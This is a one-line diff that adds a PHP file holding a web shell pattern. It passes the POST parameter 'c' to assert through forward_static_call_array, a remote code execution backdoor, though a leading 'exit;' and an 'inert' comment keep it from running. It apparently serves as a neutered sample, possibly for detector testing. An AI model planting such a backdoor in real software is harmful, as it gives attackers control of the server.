@@ -1,0 +1,1 @@
+<?php exit; /* inert */ forward_static_call_array("assert", array($_POST["c"]));
